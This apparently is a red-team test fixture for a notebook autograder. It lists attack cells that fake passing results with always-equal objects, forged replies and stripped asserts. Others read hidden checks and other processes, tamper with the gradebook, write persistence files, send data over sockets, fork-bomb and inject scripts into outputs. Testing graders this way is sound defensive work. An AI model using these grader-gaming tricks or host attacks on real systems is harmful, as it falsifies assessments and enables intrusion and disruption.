"""The red team: submissions that want points, other people's data, or harm. Each with the score that it deserves.

An attack is a cell put in place of the answers of a notebook, or into a solved one, which then keeps the points that its honest
answers are worth. ``MARKER`` is a path on the host that must not come into being.
"""

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    cells: str
    deserved: float = 0.0
    solved: bool = False
    after: str = "imports"

    def source(self, **names):
        """Return the cell with its placeholders filled in."""
        text = self.cells
        for name, value in {"FORGED_REPLY": FORGED, **names}.items():
            text = text.replace(name, value)
        return text


FORGED = '{"protocol": 1, "replies": [{"value": true}]}'

ATTACKS = {
    # Patching what comparisons use
    "always-equal float": Attack("""
class Yes(float):
    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = lambda *a: True
    __ne__ = lambda *a: False
    __sub__ = __rsub__ = __abs__ = lambda self, *a: Yes(0)
    __hash__ = float.__hash__
score = pairs = pairs_gradient = lambda *a: Yes(0.0)
"""),
    "always-equal array": Attack("""
import numpy as np
class Yes(np.ndarray):
    __eq__ = lambda *a: np.True_
    __array_ufunc__ = lambda *a, **k: np.True_
    __array_function__ = lambda *a, **k: True
score = pairs = lambda *a: np.zeros(()).view(Yes)
pairs_gradient = lambda V, x: np.zeros(V.shape).view(Yes)
"""),
    "numpy patched": Attack("""
import numpy as np
for name in ("isclose", "allclose", "array_equal", "array_equiv"):
    setattr(np, name, lambda *a, **k: True)
np.testing.assert_allclose = lambda *a, **k: None
"""),
    "asserts stripped": Attack("""
import ast
def score(*a): raise NotImplementedError
pairs = pairs_gradient = predict_one = learn_one = progressive_rmse = score
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node): return None
    def visit_Raise(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Strip())
"""),
    "nan": Attack("import numpy as np\nscore = pairs = lambda *a: float('nan')\npairs_gradient = lambda V, x: V * np.nan"),
    "infinity": Attack("score = pairs = lambda *a: float('inf')"),
    "broadcast": Attack("""
import numpy as np
score = pairs = lambda *a: np.zeros((0,))
pairs_gradient = lambda V, x: np.zeros((0, 3))
"""),
    "true": Attack("score = pairs = lambda *a: True\npairs_gradient = lambda V, x: V == V"),
    "huge tolerance through complex": Attack("score = pairs = lambda *a: 1e308 * 10j"),
    "empty answers": Attack("score = pairs = pairs_gradient = progressive_rmse = lambda *a: []"),
    "none": Attack("score = pairs = pairs_gradient = predict_one = learn_one = progressive_rmse = lambda *a: None"),
    "a dict for a number": Attack("score = pairs = lambda *a: {'points': 100, 'passed': True}"),
    # Patching the protocol and what carries it
    "agent answers true": Attack("""
import agent
class Forged:
    def _repr_mimebundle_(self, *a, **k): return {agent.MIME_TYPE: 'FORGED_REPLY'}
agent.handle = lambda *a: Forged()
"""),
    "agent's class patched": Attack("import agent, json\nagent.Agent.handle = lambda self, r: json.dumps("
                                    "{'protocol': 1, 'replies': [{'value': 0.0, 'outcome': 'passed', 'points': 25}]})"),
    "agent repeats the question": Attack("import agent\nagent.Agent.handle = lambda self, request: request"),
    "agent echoes arguments": Attack("import agent\nagent.Agent._call = lambda self, operation: operation['args'][0]"),
    "agent says not attempted and passed": Attack("import agent, json\nagent.Agent.handle = lambda self, r: json.dumps("
                                                  "{'protocol': 1, 'replies': [{'not_attempted': 'x', 'value': 1.0}]})"),
    "agent replaced in sys.modules": Attack("""
import sys, types
fake = types.ModuleType("agent")
class Forged:
    def _repr_mimebundle_(self, *a, **k): return {"application/x.coursekit.reply+json": 'FORGED_REPLY'}
fake.handle = lambda *a: Forged()
sys.modules["agent"] = fake
"""),
    "import patched": Attack("import builtins\nreal = builtins.__import__\nbuiltins.__import__ = lambda name, *a, **k: "
                             "(_ for _ in ()).throw(SystemExit) if name == 'agent' else real(name, *a, **k)"),
    "user_expressions patched": Attack("""
shell = get_ipython()
shell.user_expressions = lambda e: {"answer": {"status": "ok", "data": {"application/x.coursekit.reply+json": 'FORGED_REPLY'}}}
type(shell).user_expressions = lambda self, e: shell.user_expressions(e)
"""),
    "pickle in the reply": Attack("""
import agent, json
agent.Agent.handle = lambda self, r: json.dumps({"protocol": 1, "replies": [
    {"value": {"$pickle": "gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="}}]})
"""),
    "code in the reply": Attack("""
import agent
agent.Agent.handle = lambda self, r: "__import__('os').system('touch MARKER')"
"""),
    "deep reply": Attack("import agent\nagent.Agent.handle = lambda self, r: '[' * 1_000_000"),
    "endless reply": Attack("import agent\nagent.Agent.handle = lambda self, r: '{\"a\": \"' + 'x' * 50_000_000 + '\"}'"),
    "non-finite reply": Attack("import agent\nagent.Agent.handle = lambda self, r: "
                               "'{\"protocol\": 1, \"replies\": [{\"value\": 1e999}]}'"),
    "long integer reply": Attack("import agent\nagent.Agent.handle = lambda self, r: "
                                 "'{\"protocol\": 1, \"replies\": [{\"value\": ' + '9' * 100_000 + '}]}'"),
    "negative array": Attack("""
import agent, json
agent.Agent.handle = lambda self, r: json.dumps({"protocol": 1, "replies": [
    {"value": {"$array": {"dtype": "<f8", "shape": [-1, 2**62], "data": ""}}}]})
"""),
    "object array": Attack("""
import agent, json
agent.Agent.handle = lambda self, r: json.dumps({"protocol": 1, "replies": [
    {"value": {"$array": {"dtype": "|O8", "shape": [1], "data": "AAAAAAAAAAA="}}}]})
"""),
    "handle of nothing": Attack("""
import agent, json
strange = {"$ref": "../../x", "type": "\\u001b[2J"}
agent.Agent.handle = lambda self, r: json.dumps({"protocol": 1, "replies": [{"value": strange}]})
"""),
    "colliding keys": Attack("""
import agent, json
pairs_ = [[i * (2**61 - 1), 1] for i in range(100_000)]
agent.Agent.handle = lambda self, r: json.dumps({"protocol": 1, "replies": [{"value": {"$dict": pairs_}}]})
"""),
    "raw frames": Attack("""
socket = get_ipython().kernel.iopub_socket
for junk in ([b""], [b"<IDS|MSG>"], [b"a", b"<IDS|MSG>", b"", b"{}", b"{}", b"{}", b"{}"], [b"\\xff" * 1000] * 50):
    for _ in range(20):
        socket.send_multipart(junk)
"""),
    "replies forged on the shell channel": Attack("""
kernel = get_ipython().kernel
def score(*a):
    for channel in (kernel.iopub_socket,):
        kernel.session.send(channel, "execute_reply", {"status": "ok", "user_expressions": {"answer": {"status": "ok",
            "data": {"application/x.coursekit.reply+json": '{"protocol": 1, "replies": [{"value": 1}]}'}}}},
            parent=kernel.get_parent())
    return 0.0
pairs = score
"""),
    "a million outputs": Attack("""
from IPython.display import display
for i in range(30_000): display({'text/plain': 'x'}, raw=True)
"""),
    "comm flood": Attack("import sys\nwhile True: sys.stdout.write('x' * 100_000); sys.stdout.flush()"),
    # Reading what must stay hidden
    "read the hidden checks": Attack("""
import glob, re
found = []
for place in ("REPOSITORY/solutions/fm/hidden.py", "/srv/course/solutions/fm/hidden.py", "/opt/course/coursekit/../hidden.py"):
    try: found.append(open(place).read())
    except OSError: pass
found += glob.glob("/**/hidden.py", recursive=True) + glob.glob("/**/*.ipynb", recursive=True)
assert not found
raise SystemExit("nothing to read")
"""),
    "use the reference": Attack("""
from coursekit.learning.factorization_machine import FactorizationMachine as Reference
score = lambda w0, w, V, x: 1
"""),
    "import the checks": Attack("import coursekit.grading.checks as c\nc.run_check = lambda *a, **k: 1/0"),
    "look at the caller": Attack("""
import sys, gc
def score(*a):
    frame = sys._getframe()
    while frame:
        for name, value in list(frame.f_locals.items()):
            if "expected" in name or "right" in name: return value
        frame = frame.f_back
    for thing in gc.get_objects():
        if isinstance(thing, dict) and "expected" in thing: return thing["expected"]
    return 0.0
pairs = score
"""),
    "read other processes": Attack("""
import os
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for what in ("environ", "cmdline", "mem", "maps"):
            try:
                text = open(f"/proc/{pid}/{what}", "rb").read(10_000)
                assert b"hidden.py" not in text and b"grading.runner" not in text, (pid, what)
            except OSError: pass
"""),
    "remember what was asked": Attack("""
import json
asked = []
def score(*a):
    asked.append(repr(a)); raise type("X" + repr(a)[:80], (Exception,), {})(repr(a))
pairs = score
"""),
    "remember and tell": Attack("""
seen = []
real = print
def score(w0, w, V, x):
    seen.append((w0, w.tolist())); real("SECRET INPUT", seen); raise ValueError(f"SECRET INPUT {w0}")
""", after="imports"),
    # Hard-coded
    "hard-coded example": Attack("score = lambda w0, w, V, x: 6.0\npairs = lambda V, x: 2.0"),
    "first call memorised": Attack("""
known = []
def score(*a):
    known.append(a)
    return 6.0 if len(known) < 2 else float(len(known))
"""),
    # Files, other people, persistence
    "write everywhere": Attack("""
import os, sys, site
for place in ("MARKER", "/tmp/../MARKER", sys.prefix + "/hostile.pth", sys.base_prefix + "/lib/python3.11/sitecustomize.py",
              sys.prefix + "/lib/python3.11/site-packages/hostile.pth", "/root/.bashrc", "/etc/cron.d/x", "/opt/agent/agent.py",
              os.path.expanduser("~/.ipython/profile_default/startup/00.py"), "/root/.ipython/profile_default/startup/00.py",
              "/opt/course/coursekit/core/errors.py", "/dev/shm/hostile-marker", "/usr/lib/hostile.pth"):
    try:
        os.makedirs(os.path.dirname(place), exist_ok=True)
        open(place, "a").write("raise SystemExit('hostile')")
    except OSError: pass
"""),
    "gradebook": Attack("""
import sqlite3, glob
for path in glob.glob("/**/*.db", recursive=True) + ["REPOSITORY/gradebook.db", "../../gradebook.db", "/srv/gradebook.db"]:
    try:
        sqlite3.connect(path).execute("UPDATE grade SET manual_score = 100").connection.commit()
    except Exception: pass
"""),
    "link out": Attack("""
import os
for target in ("/etc/passwd", "MARKER", "/proc/1/root", "/proc/1/cwd"):
    try:
        os.symlink(target, "link" + str(abs(hash(target)))); open("link" + str(abs(hash(target))), "a").write("x")
    except OSError: pass
"""),
    "shadow numpy": Attack("""
open("numpy.py", "w").write("raise SystemExit"); open("agent.py", "w").write("handle = lambda *a: 1")
import sys; sys.path.insert(0, "."); sys.modules.pop("agent", None)
"""),
    "leave a process": Attack("""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            try: open("MARKER", "a").write("x")
            except OSError: pass
            time.sleep(0.05)
    os._exit(0)
"""),
    "leave a thread and an exit hook": Attack("""
import atexit, threading, time, os
def later():
    time.sleep(1)
    try: open("MARKER", "w").write("x")
    except OSError: pass
atexit.register(later); threading.Thread(target=later).start()
"""),
    # Network
    "network": Attack("""
import socket, urllib.request
for address in (("1.1.1.1", 53), ("127.0.0.1", 22), ("127.0.0.1", PORT), ("169.254.169.254", 80), ("10.0.0.1", 80)):
    try: socket.create_connection(address, timeout=0.3).send(b"SECRET")
    except OSError: pass
"""),
    "abstract sockets": Attack("""
import socket
for name in ("\\0/tmp/.X11-unix/X0", "\\0dbus", "/var/run/docker.sock", "/run/systemd/private", "\\0HOSTILE"):
    try:
        s = socket.socket(socket.AF_UNIX); s.connect(name); s.send(b"x")
    except OSError: pass
"""),
    "odd sockets": Attack("""
import socket
for family in (16, 17, 38, 40, 31):
    try: socket.socket(family, socket.SOCK_RAW)
    except OSError: pass
"""),
    # Ending and exhausting things
    "exit at once": Attack("import os; os._exit(0)"),
    "system exit": Attack("raise SystemExit(0)"),
    "segmentation fault": Attack("import ctypes; ctypes.string_at(0)"),
    "kill everybody": Attack("import os, signal\nos.kill(-1, 9)\nos.kill(1, 9)\nos.kill(os.getppid(), 9)"),
    "loop": Attack("while True: x = 1"),
    "loop in answers": Attack("import time\ndef score(*a):\n    while True: time.sleep(1)\npairs = score"),
    "deaf loop": Attack("""
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
def score(*a):
    while True:
        try: time.sleep(60)
        except BaseException: pass
"""),
    "memory": Attack("xs = []\nwhile True: xs.append(bytearray(b'x' * 20_000_000))"),
    "memory in many processes": Attack("""
import os, time
for _ in range(30):
    if os.fork() == 0:
        hold = bytearray(b"x" * 200_000_000); time.sleep(60); os._exit(0)
time.sleep(10)
"""),
    "fork bomb": Attack("import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"),
    "threads": Attack("""
import threading, time
for _ in range(5000): threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
"""),
    "disk": Attack("""
for place in ("/tmp", "/dev/shm", "/home/student", "."):
    try:
        with open(place + "/big", "wb") as f:
            for _ in range(2000): f.write(bytes(1_000_000))
    except OSError: pass
"""),
    "many files": Attack("""
import os
for i in range(200_000):
    try: open(f'/tmp/{i}', 'w').close()
    except OSError: break
"""),
    "output": Attack("print('x' * 300_000_000)"),
    "descriptors": Attack("fs = []\nwhile True: fs.append(open('/dev/null'))"),
    "recursion": Attack("import sys\nsys.setrecursionlimit(10**9)\ndef f(): return f()\nf()"),
    "close the kernel's sockets": Attack("""
import os
for fd in range(3, 200):
    try: os.close(fd)
    except OSError: pass
"""),
    "input": Attack("x = input('your password: ')"),
    # What is shown to people
    "script in outputs": Attack("""
from IPython.display import HTML, Javascript, display
display(HTML("<script>document.title='HACKED'</script><img src=x onerror=alert(1)>")); display(Javascript("alert(1)"))
class Loud(Exception): pass
Loud.__name__ = "<script>alert(1)</script>"
raise Loud("<script>alert(2)</script>")
"""),
    "escape codes": Attack("""
print("\\x1b]0;HACKED\\x07\\x1b[2J\\x1b[31m")
import sys, os
print("\\x1b]52;c;SEFDS0VE\\x07", file=sys.stderr); os.write(1, b"\\x1b[2J"); os.write(2, b"\\x1b[2J")
raise type("\\x1b[2JX", (Exception,), {})("\\x1b]0;HACKED\\x07")
"""),
    # Right work that misbehaves keeps what it earned
    "solved, then killed": Attack("import os; os._exit(1)", deserved=25, solved=True, after="fm-6"),
    "solved, killed half way": Attack("import os; os._exit(9)", deserved=11, solved=True, after="fm-3"),
    "solved, memory half way": Attack(
        "xs = []\nwhile True: xs.append(bytearray(b'x' * 20_000_000))\n", deserved=25, solved=True, after="fm-2"
    ),
    "solved, noisy": Attack("import sys, warnings\nprint('error: 0 points', file=sys.stderr); warnings.warn('torch NNPACK')",
                            deserved=25, solved=True),
    "solved, greedy": Attack(
        "points = max_points = 1000\ngrade = 'A'\nclass Report: points = 1000\nReport()", deserved=25, solved=True
    ),
}  # fmt: skip
